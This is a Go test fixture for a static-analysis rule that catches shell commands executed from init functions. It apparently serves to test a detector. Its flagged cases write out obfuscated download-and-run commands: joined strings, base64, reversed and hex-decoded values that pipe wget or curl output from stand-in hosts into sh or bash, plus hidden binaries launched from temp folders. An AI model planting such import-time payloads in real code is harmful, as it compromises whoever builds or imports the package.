// Fixture for go-init-shell-exec.
// RULEID: sh -c of a decoded / joined / reversed string in init(); a goroutine in init running
// bash; a package-level var initialiser running cmd /c; a program name decoded from hex.
// OK: init() registering flags or probing with a literal harmless command; the same shell
// call in an ordinary function; re-exec of os.Args[0].
package cache

import (
	"encoding/base64"
	"encoding/hex"
	"flag"
	"os"
	"os/exec"
	"strings"
)

var parts = []string{"wg", "et -O", " - http://198.51.100.9/x", " | sh"}

func init() {
	// ruleid: go-init-shell-exec
	exec.Command("/bin/sh", "-c", strings.Join(parts, "")).Start()
}

func init() {
	raw, _ := base64.StdEncoding.DecodeString("Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EgfCBiYXNo")
	go func() {
		// ruleid: go-init-shell-exec
		c := exec.Command("bash", "-c", string(raw))
		c.Run()
	}()
}

func rev(b []byte) string {
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

var ready = func() bool {
	// ruleid: go-init-shell-exec
	_ = exec.Command("cmd", "/c", rev([]byte("exe.x\\pmet\\%PMET%"))).Start()
	return true
}()

func init() {
	name, _ := hex.DecodeString("2f746d702f2e6364")
	// ruleid: go-init-shell-exec
	exec.Command(string(name)).Start()
}

func init() {
	// ruleid: go-init-shell-exec
	exec.Command("sh", "-c", "nohup /tmp/.x >/dev/null 2>&1 &").Run()
}

var verbose = flag.Bool("v", false, "verbose")

func init() {
	// ok: go-init-shell-exec
	out, _ := exec.Command("sh", "-c", "ulimit -n").Output()
	_ = out
	// ok: go-init-shell-exec
	exec.Command("uname", "-r").Output()
}

func RunHook(script string) error {
	// ok: go-init-shell-exec
	return exec.Command("/bin/sh", "-c", script).Run()
}

func init() {
	if os.Getenv("_DAEMON") == "" {
		// ok: go-init-shell-exec
		exec.Command(os.Args[0], os.Args[1:]...).Start()
	}
}
